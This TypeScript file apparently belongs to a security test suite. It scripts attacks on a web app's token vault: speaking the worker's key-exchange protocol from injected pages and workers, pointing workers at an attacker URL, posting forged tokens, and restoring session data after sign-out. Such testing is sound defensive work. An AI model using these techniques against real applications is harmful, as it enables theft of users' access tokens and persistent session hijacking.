import { setTimeout as delay } from "node:timers/promises";
import { attack } from "../attack.js";

/**
 * The source of a function that speaks the whole keeper protocol with its own key: it requests the stream, decrypts copies,
 * and hands one over. It runs in any global.
 */
const AS_A_KEEPER = `async (base, tell) => {
  const curve = { name: "ECDH", namedCurve: "P-256" };
  const own = await crypto.subtle.generateKey(curve, true, ["deriveKey"]);
  const raw = new Uint8Array(await crypto.subtle.exportKey("raw", own.publicKey));
  const key = btoa(String.fromCharCode(...raw)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
  const shared = async (peer) => crypto.subtle.deriveKey(
    { name: "ECDH", public: await crypto.subtle.importKey("raw", peer, curve, false, []) },
    own.privateKey, { name: "AES-GCM", length: 256 }, false, ["encrypt", "decrypt"]);
  let secret;
  try {
    const response = await fetch(base + "auth/keep?key=" + key);
    tell("status " + response.status);
    const reader = response.body.getReader();
    // A keeper's stream does not end by itself, so the attacker listens for this long.
    setTimeout(() => reader.cancel(), 1500);
    let bytes = [];
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
      bytes.push(...chunk.value);
      while (bytes.length >= 5) {
        const length = (bytes[1] << 24) | (bytes[2] << 16) | (bytes[3] << 8) | bytes[4];
        if (bytes.length < 5 + length) break;
        const payload = new Uint8Array(bytes.slice(5, 5 + length));
        if (bytes[0] === 1) secret = await shared(payload.slice(0, 65));
        if (bytes[0] === 2) {
          const opened = await crypto.subtle.decrypt({ name: "AES-GCM", iv: payload.slice(0, 12) }, secret, payload.slice(12));
          tell(new TextDecoder("latin1").decode(opened));
        }
        bytes = bytes.slice(5 + length);
      }
    }
  } catch (error) {
    tell(String(error));
  }
  const forged = new TextEncoder().encode(JSON.stringify({
    format: 1, id: "forged", serial: 999, access: "Bearer forged", idToken: "Bearer forged", refresh: "forged",
    subject: "forged", user: { sub: "forged" }, lifetime: 3600000, age: 0 }));
  for (const body of [new Uint8Array(), raw, new Uint8Array([...raw, ...forged]), forged]) {
    try {
      const response = await fetch(base + "auth/keep", { method: "POST", body });
      tell(response.status + " " + await response.text());
    } catch (error) {
      tell(String(error));
    }
  }
}`;

export const keeperFromAPage = attack({
  name: "speaks the keeper's protocol from pages, also at the worker's URL",
  threat: "single-execution theft",
  target: "strongroom",
  alone: true,
  async payload(it) {
    const curve = { name: "ECDH", namedCurve: "P-256" };
    const own = await crypto.subtle.generateKey(curve, true, ["deriveKey"]);
    const raw = new Uint8Array(await crypto.subtle.exportKey("raw", own.publicKey));
    const key = btoa(String.fromCharCode(...raw))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
    const shared = async (peer: Uint8Array<ArrayBuffer>) =>
      crypto.subtle.deriveKey(
        { name: "ECDH", public: await crypto.subtle.importKey("raw", peer, curve, false, []) },
        own.privateKey,
        { name: "AES-GCM", length: 256 },
        false,
        ["encrypt", "decrypt"],
      );
    /** Requests the stream with a window's own `fetch`, and decrypts the copies in it. */
    const keep = async (ask: typeof fetch) => {
      const response = await ask(`${it.appUrl}auth/keep?key=${key}`);
      const reader = response.body?.getReader();
      setTimeout(() => void reader?.cancel(), 700);
      let bytes = new Uint8Array();
      let secret: CryptoKey | undefined;
      for (let chunk = await reader?.read(); chunk?.value; chunk = await reader?.read()) {
        bytes = new Uint8Array([...bytes, ...chunk.value]);
        while (bytes.length >= 5) {
          const length = new DataView(bytes.buffer).getUint32(1);
          if (bytes.length < 5 + length) break;
          const payload = bytes.slice(5, 5 + length);
          if (bytes[0] === 1) secret = await shared(payload.slice(0, 65));
          if (bytes[0] === 2 && secret) {
            const iv = payload.slice(0, 12);
            const opened = await crypto.subtle.decrypt({ name: "AES-GCM", iv }, secret, payload.slice(12));
            it.steal(new TextDecoder("latin1").decode(opened));
          }
          bytes = bytes.slice(5 + length);
        }
      }
    };
    const attempt = (ask: typeof fetch) => keep(ask).catch((error: unknown) => it.steal(String(error)));
    await attempt(fetch);
    history.pushState(null, "", "/vault-worker.js");
    await attempt(fetch);
    // A frame that shows the script has the worker's URL.
    for (const src of ["/vault-worker.js", "about:blank"]) {
      const frame = document.createElement("iframe");
      frame.src = src;
      document.body.append(frame);
      await it.pause(200);
      try {
        const { fetch, history } = frame.contentWindow as Window & typeof globalThis;
        await attempt(fetch);
        history.replaceState(null, "", "/vault-worker.js");
        await attempt(fetch);
      } catch {
        // Cross-origin, like a sandboxed page.
      }
    }
    for (const init of [
      { mode: "no-cors" },
      { mode: "same-origin" },
      { keepalive: true },
      { method: "POST", body: raw },
    ] as RequestInit[]) {
      const response = await fetch(`/auth/keep?key=${key}`, {
        ...init,
        signal: AbortSignal.timeout(500),
      }).catch(() => undefined);
      it.steal(await response?.text().catch(() => ""));
    }
    navigator.sendBeacon("/auth/keep", raw);
    history.replaceState(null, "", "/");
  },
});

export const keeperFromOtherWorkers = attack({
  name: "speaks the keeper's protocol from its own workers",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    new BroadcastChannel("as-a-keeper").onmessage = ({ data }) => it.steal(data);
    const code = (window as { asAKeeper?: string }).asAKeeper ?? "";
    const blob = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
    const urls = [
      blob,
      `${blob}#/vault-worker.js`,
      `data:text/javascript,${encodeURIComponent(code)}`,
      "/assets/keeper.js",
    ];
    for (const url of urls) {
      for (const kind of ["Worker", "SharedWorker"] as const) {
        try {
          new window[kind](it.scriptUrl(url), { name: "/vault-worker.js" });
        } catch {
          // The page's policy refuses the worker.
        }
      }
    }
    await it.pause(1_800);
  },
  async play(stage) {
    const { appUrl } = stage.facts;
    const script = `(${AS_A_KEEPER})(${JSON.stringify(appUrl)}, (text) => new BroadcastChannel("as-a-keeper").postMessage(text));`;
    // The same script as a file on the app's origin, and as text in the page.
    stage.serve("/assets/keeper.js", script, "text/javascript");
    await stage.openSignedIn();
    await stage.browser.evaluate((script) => {
      (window as { asAKeeper?: string }).asAKeeper = script;
    }, script);
    await stage.inject();
  },
});

export const keeperWithOddOptions = attack({
  name: "starts keepers from the genuine script with unusual options",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    const listen = (target: Worker | MessagePort) => {
      target.addEventListener("message", (event) => it.steal((event as MessageEvent).data));
      target.addEventListener("messageerror", (event) => it.steal(String(event)));
      target.addEventListener("error", (event) =>
        it.steal((event as ErrorEvent).message, (event as ErrorEvent).filename),
      );
      for (const message of [
        "strongroom:hello",
        "token",
        { type: "token" },
        { type: "init", api: it.attackerUrl },
        null,
      ]) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => it.steal(data);
        target.postMessage(message, [port2]);
      }
    };
    for (const url of [
      "/vault-worker.js",
      "/vault-worker.js#x",
      "/vault-worker.js?x",
      "/./vault-worker.js",
      "/strongroom-worker.js",
    ]) {
      for (const options of [
        {},
        { name: "constructor" },
        { type: "module" },
        { credentials: "include", type: "module" },
        { name: JSON.stringify({ api: it.attackerUrl }) },
      ] as WorkerOptions[]) {
        try {
          listen(new Worker(it.scriptUrl(url), options));
          if (!("SharedWorker" in window)) continue;
          const shared = new SharedWorker(it.scriptUrl(url), options);
          shared.port.start();
          listen(shared.port);
        } catch (error) {
          it.steal(String(error));
        }
      }
    }
    await it.pause(1_500);
  },
});

export const frozenKeeper = attack({
  name: "freezes a keeper during the sign-out and restores the session hint",
  threat: "persistent theft",
  target: "the app's origin",
  leavesWorkers: true,
  needs: "stop a worker",
  async payload(it) {
    const { phase } = window as { phase?: string };
    const send = async (method: string, url: string) => {
      const response = await fetch(url, { method, signal: AbortSignal.timeout(6_000) }).catch(
        () => undefined,
      );
      return (await response?.text().catch(() => "")) ?? "";
    };
    const values = async (mode: IDBTransactionMode) => {
      const database = await it.done(indexedDB.open("strongroom"));
      return database.transaction("values", mode).objectStore("values");
    };
    Object.assign(window, { phase: "back" });
    if (phase === "before the sign-out") {
      // A page can start any number of keepers. This one enters the back-forward cache with the page.
      new Worker(it.scriptUrl("/vault-worker.js"));
      const keepers = async () => JSON.parse(await send("GET", "/auth/session")).worker?.keepers ?? 0;
      for (let tries = 0; tries < 60 && (await keepers()) < 2; tries++) await it.pause(50);
      const store = await values("readonly");
      localStorage.rows = JSON.stringify([await it.done(store.getAllKeys()), await it.done(store.getAll())]);
      return;
    }
    if (phase === "after the sign-out") {
      const [keys, rows] = JSON.parse(localStorage.rows) as [string[], unknown[]];
      const store = await values("readwrite");
      for (const [index, row] of rows.entries()) await it.done(store.put(row, keys[index]));
      return;
    }
    const urls = [`${it.apiUrl}me`, `${it.ownApiUrl}me`, `${it.apiUrl}me?again`];
    it.steal(...(await Promise.all(urls.map((url) => send("GET", url)))));
    it.steal(await send("POST", "/auth/refresh"), await send("GET", `${it.apiUrl}me`));
  },
  async play(stage) {
    const { browser, site } = stage;
    const run = async (phase: string) => {
      await browser.evaluate((phase) => void Object.assign(window, { phase }), phase);
      await stage.inject();
    };
    await stage.openSignedIn();
    await stage.waitForKeeper();
    await run("before the sign-out");
    const attackers = await browser.currentTab();
    await browser.goto(stage.page("<!doctype html><title>Elsewhere</title>"));
    await browser.newTab(`${site.origin}/`);
    await stage.waitForState("signed-in");
    await stage.signOut();
    stage.markRequests();
    await run("after the sign-out");
    await stage.closeThisTab(attackers);
    await browser.stopWorkers();
    await browser.driver.navigate().back();
    // The page comes from the back-forward cache or is reloaded. In the latter case the app may navigate to a silent
    // sign-in at any time.
    await browser.waitFor("the attacker's page", () =>
      browser.evaluate((name) => {
        if (typeof attacker !== "object") return false;
        setTimeout(() => void attacker.run(name), 0);
        return true;
      }, frozenKeeper.name),
    );
    await delay(6_000);
  },
  gain: async (stage) => stage.requestAsTheUser(),
});
